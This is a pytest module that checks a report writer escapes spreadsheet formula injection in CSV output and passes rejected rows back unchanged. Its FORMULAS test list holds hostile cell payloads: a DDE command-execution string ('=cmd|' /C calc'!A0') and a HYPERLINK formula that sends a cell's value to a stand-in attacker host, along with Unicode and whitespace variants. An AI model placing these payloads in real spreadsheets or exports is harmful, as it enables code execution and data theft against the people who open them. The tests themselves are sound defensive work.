"""No report of ours makes a spreadsheet calculate; what is not ours to change stays as it is (S-9)."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

import pytest

from edges.jobs import new_job
from edges.places import START
from edges.samples import HEADER, ROW, Desk, judge
from edges.samples import csv as lines
from orchestrator.edges.report import Report
from orchestrator.model import Digest, Name, Rejected, RelPath, Sheet, Sheets, Token
from orchestrator.naming import printable
from orchestrator.objections import joined
from orchestrator.ports import Objection
from orchestrator.trip import Trip
from orchestrator.validation import reject_header
from validation.samples import PLATFORM_DATA

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=1;=2",
    "harmless;=1+1",
    "harmless;@SUM(A1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '"=1+1',
    "''=1+1",
]
TRIGGERS = tuple("=+-@＝＋－＠\t\r\n")


def begins_a_formula(cell: str) -> bool:
    return any(part.startswith(TRIGGERS) for part in cell.split(";"))


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_the_table_of_files_begins_a_formula_wherever_cells_are_parted(tmp_path: Path, text: str) -> None:
    report = Report(run="1", command="run", started=START)
    job = replace(new_job(), name=Name(text), token=Token(text), cause=text)
    report.enter(Trip(path=RelPath(text), job=job))
    report.write(tmp_path, {})

    with (tmp_path / "files.csv").open(newline="", encoding="utf-8") as table:
        (line,) = csv.DictReader(table, strict=True)
    told = [line[column] for column in ("path", "name", "token", "cause")]
    assert [cell for cell in told if begins_a_formula(cell)] == []
    assert len(set(told)) == 1
    assert told[0].replace("'", "") == printable(text).replace("'", ""), "and it still says what it said"


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_what_the_remote_has_against_rows_begins_a_formula(text: str) -> None:
    """The name of the file is somebody's, and so is what the remote says, which may quote a cell."""
    job = replace(new_job(), path=RelPath(text), checked=Sheets(data=Sheet(rows=1, sent=Digest("d"))))
    objections = joined(job, [Objection(rows=(1,), says=text), Objection(rows=(), says=f"\x1b[2J{text}")])

    assert objections.body is not None
    lines = list(csv.DictReader(io.StringIO(objections.body.decode(), newline="")))
    told = [line[column] for line in lines for column in ("line", "says")]
    assert len(told) == 4
    assert [cell for cell in told if begins_a_formula(cell) or not cell.isprintable()] == []
    assert printable(text).replace("'", "") in lines[0]["line"].replace("'", "")


@pytest.mark.parametrize("text", FORMULAS)
async def test_the_rejects_give_every_cell_back_as_it_was_and_add_no_formula(tmp_path: Path, text: str) -> None:
    """They are rows to mend and to send, so a sign in front of them would be a wrong value at the remote."""
    desk = Desk(tmp_path)
    quoted = '"' + text.replace('"', '""') + '"'
    ragged = ROW.replace("N1", quoted) + ",one too many"
    cells = f"{quoted},31/02/2024,09:00,{quoted},17:00"

    verdict = await judge(desk.inbox(), desk.put("a.csv", lines(HEADER, cells, ragged)))

    assert isinstance(verdict, Rejected)
    assert text not in verdict.cause
    with (desk.rejects / "a.csv").open(newline="", encoding="utf-8") as table:
        first, second = csv.DictReader(table, strict=True)
    assert (first["Reference"], first["EndDate"], second["_raw"]) == (text, text, ragged)
    ours = [name for name in reject_header(PLATFORM_DATA.names) if name.startswith("_") and name != "_raw"]
    assert [line[name] for line in (first, second) for name in ours if begins_a_formula(line[name])] == []
